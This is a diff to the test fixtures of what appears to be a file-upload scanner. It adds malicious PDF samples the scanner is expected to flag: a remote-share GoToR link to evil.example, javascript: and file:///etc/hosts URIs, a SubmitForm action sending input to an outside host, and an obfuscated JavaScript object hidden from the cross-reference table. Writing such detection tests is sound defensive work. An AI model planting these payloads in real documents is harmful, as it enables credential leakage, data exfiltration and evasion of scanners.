@@ -77,6 +77,31 @@ BAD = {
     "a PDF that runs a script when opened": (uploads.pdf(catalog=f"/OpenAction {JS}"), "a.pdf", "script"),
     "a script deep in an action": (uploads.pdf(f"<< /A << /Next [<< /B [{JS}] >>] >> >>"), "a.pdf", "script"),
     "a PDF that starts a program": (uploads.pdf("<< /S /Launch /F (a.exe) >>"), "a.pdf", "launch"),
+    "a PDF with a link to a share": (
+        uploads.pdf(r"<< /S /GoToR /F (\\\\evil.example\\x.pdf) >>"),
+        "a.pdf",
+        "launch",
+    ),
+    "a PDF with a link that is a script": (
+        uploads.pdf("<< /A << /S /URI /URI (javascript:alert) >> >>"),
+        "a.pdf",
+        "launch",
+    ),
+    "a PDF with a link to a file": (
+        uploads.pdf("<< /A << /S /URI /URI (file:///etc/hosts) >> >>"),
+        "a.pdf",
+        "launch",
+    ),
+    "a PDF that sends what is typed": (
+        uploads.pdf("<< /A << /S /SubmitForm /F (https://a.example/) >> >>"),
+        "a.pdf",
+        "launch",
+    ),
+    "a PDF with an object that its table leaves out": (
+        uploads.pdf("<< >>") + b"\n99 0 obj\n<< /S /J#61vaScript >>\nendobj\n",
+        "a.pdf",
+        "script",
+    ),
     "a PDF that imports data": (uploads.pdf("<< /A << /S /ImportData /F (a) >> >>"), "a.pdf", "launch"),
     "a PDF that is none": (b"%PDF-1.7\n" + bytes(100), "a.pdf", "damaged"),
     "a film without its index": (uploads.film().replace(b"moov", b"free"), "a.mp4", "damaged"),
